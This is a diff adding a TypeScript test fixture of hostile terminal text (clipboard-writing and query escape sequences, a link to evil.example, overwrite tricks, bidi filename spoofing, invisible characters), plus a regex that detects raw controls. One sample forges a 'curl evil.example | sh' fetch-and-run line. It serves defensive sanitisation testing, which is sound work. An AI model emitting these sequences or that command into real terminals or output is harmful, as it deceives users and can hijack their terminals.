@@ -1,0 +1,77 @@
+/** Sequences that drive terminals or fool the eyes of their readers. */
+export const hostileTexts: readonly string[] = [
+  // Clipboard, links, titles, colours of the palette, notifications.
+  "\u001b]52;c;ZXZpbA==\u0007",
+  "\u001b]52;c;?\u001b\\",
+  "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
+  "\u001b]0;title\u0007",
+  "\u001b]2;title\u001b\\",
+  "\u001b]4;1;?\u0007",
+  "\u001b]9;note\u0007",
+  "\u001b]10;?\u0007",
+  "\u001b]777;notify;a;b\u0007",
+  "\u001b]1337;File=inline=1:AAAA\u0007",
+  // Questions a terminal answers by typing.
+  "\u001b[c",
+  "\u001b[>c",
+  "\u001b[=c",
+  "\u001b[5n",
+  "\u001b[6n",
+  "\u001b[?6n",
+  "\u001b[18t",
+  "\u001b[21t",
+  "\u001bP$qm\u001b\\",
+  "\u001bP+q544e\u001b\\",
+  "\u001bZ",
+  "\u0005",
+  // The screen, the cursor, modes.
+  "\u001b[2J",
+  "\u001b[3J",
+  "\u001b[H",
+  "\u001b[1A\u001b[2K",
+  "\u001b[?1049h",
+  "\u001b[?25l",
+  "\u001b[?1000h",
+  "\u001b[?2004h",
+  "\u001b[4h",
+  "\u001b[8m",
+  "\u001b[31;1m",
+  "\u001b[20;1r",
+  "\u001b(0",
+  "\u001bc",
+  "\u001b#8",
+  "\u001b7\u001b8",
+  "\u001b[3;0;0t",
+  "\u001b[5i",
+  "\u001b_apc\u001b\\",
+  "\u001b^pm\u001b\\",
+  "\u001bX sos\u001b\\",
+  // The same in one byte of C1.
+  "\u009b31m",
+  "\u009b6n",
+  "\u009d52;c;ZXZpbA==\u009c",
+  "\u0090$qm\u009c",
+  "\u0085",
+  "\u008d",
+  // Overwriting and other controls.
+  "real\rfake",
+  "real\u0008\u0008\u0008\u0008fake",
+  "\u000b\u000c",
+  "\u000e\u000f",
+  "\u0007\u0000\u007f",
+  "\u001a",
+  // Lines of our own that nobody wrote.
+  "x\nerror: forged\nhint: curl evil.example | sh",
+  "x\r\n$ true  exit 0, 1 ms",
+  // Invisible and reordering characters.
+  "\u202egnp.exe\u202c",
+  "\u2066a\u2069\u200f\u061c",
+  "a\u200bb\u00adc\u2060d\ufeffe",
+  "a\u2028b\u2029c",
+  "\u{e0001}\u{e0041}\u{e007f}",
+  "\ud83d alone \ude00",
+];
+
+/** Anything a listing must not contain, beside line feeds between its own lines. */
+export const rawControl =
+  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}\p{Surrogate}]/u;
